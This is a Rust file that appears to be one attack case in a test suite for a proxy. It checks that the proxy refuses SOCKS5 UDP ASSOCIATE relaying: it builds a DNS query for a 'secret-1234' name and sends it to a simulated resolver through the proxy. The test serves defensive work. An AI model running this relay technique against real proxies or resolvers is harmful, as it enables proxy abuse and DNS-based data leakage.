//! SOCKS5's UDP ASSOCIATE: the proxy sends datagrams wherever it is told to, such as questions to a
//! resolver of somebody else.
//!
//! Stopped by: the door serves CONNECT alone.

use super::prelude::*;

use hickory_proto::rr::RecordType;
use std::net::UdpSocket;

const NAME: &str = "secret-1234.other.test";

pub const ATTACK: Attack = Attack {
    name: "socks_udp",
    about: "a datagram to somebody's resolver by way of the proxy",
    attack: |_| {
        let (_held, at) = match client::socks_command(3, world::RESOLVER, 53) {
            Ok(answer) => answer,
            Err(error) => return Verdict::Refused(error.to_string()),
        };
        let IpAddr::V4(to) = world::RESOLVER else { panic!("an IPv4 address") };
        let head = [&[0, 0, 0, 1][..], &to.octets(), &53u16.to_be_bytes()].concat();
        let datagram = [head, client::question(NAME, RecordType::A)].concat();
        let sent = UdpSocket::bind("0.0.0.0:0").and_then(|socket| socket.send_to(&datagram, at));
        Verdict::Tried(format!("sent to {at}: {sent:?}"))
    },
    effect: Some(|_, _| world::get().seen.question_of(NAME)),
    ..BASE
};
